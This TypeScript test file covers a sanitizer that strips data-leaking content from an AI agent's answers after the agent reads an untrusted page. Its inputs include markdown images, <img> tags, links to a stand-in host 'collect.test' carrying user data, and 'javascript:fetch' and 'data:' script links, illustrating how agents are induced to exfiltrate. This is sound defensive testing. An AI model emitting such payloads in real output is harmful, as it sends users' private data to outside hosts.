import { expect, it } from 'vitest';
import { attemptWith } from '../testing/attempt.ts';
import { safeAnswer } from './safe-answer.ts';

const page = {
  id: 'obs-1',
  path: '',
  tool: 'fetchPage',
  args: { url: 'https://shop.test/?q=boats' },
  status: 'ok',
  content: 'URL: https://shop.test/?q=boats\nMore at https://shop.test/list?page=2.',
  trust: 'untrusted',
} as const;

const shown = (answer: string): string => safeAnswer(attemptWith({ answer, observations: [page] }));

it.each([
  ['an image', 'Open 9-17. ![s](https://collect.test/p.png?d=my%20question)'],
  ['an image without a query', '![](https://collect.test/my-question.png)'],
  ['an image by reference', '![s][r]\n\n[r]: https://collect.test/p?d=my+question'],
  ['an element', 'a <img src="https://collect.test/p?d=question"> b'],
  ['an element over lines', 'a <IMG\nsrc=https://collect.test/p?d=question\n> b'],
  ['a link with data', '[more](https://collect.test/p?d=question)'],
  ['an address with data', 'see https://collect.test/p?d=question'],
  ['an autolink with data', '<https://collect.test/p#question>'],
  ['a link that runs', '[x](javascript:fetch("//collect.test/question"))'],
  ['a link that holds a page', '[x](data:text/html,<script>question</script>)'],
])('takes out what would carry data away: %s', (_, answer) => {
  const text = shown(answer);
  expect(text).not.toContain('question');
  expect(text).not.toMatch(/!\[|<img|javascript:/i);
});

it.each([
  ['a page that was read', 'See https://shop.test/?q=boats.'],
  ['an address that a result showed', '[next](https://shop.test/list?page=2)'],
  ['an address without data', 'See https://other.test/a/b.'],
  ['words', 'Is a < b? Yes! **5 > 3** and c: d.'],
  ['code', '`a <b> c`'],
])('leaves %s as it is', (_, answer) => {
  expect(shown(answer)).toBe(answer);
});

it('keeps the words of an image', () => {
  expect(shown('![a chart of boats](https://collect.test/c.png)')).toBe('[image removed: a chart of boats]');
});

it('takes its time in the length of the answer only', () => {
  const began = Date.now();
  shown(`${'!['.repeat(50_000)}${'<img '.repeat(20_000)}`);
  expect(Date.now() - began).toBeLessThan(3_000);
});
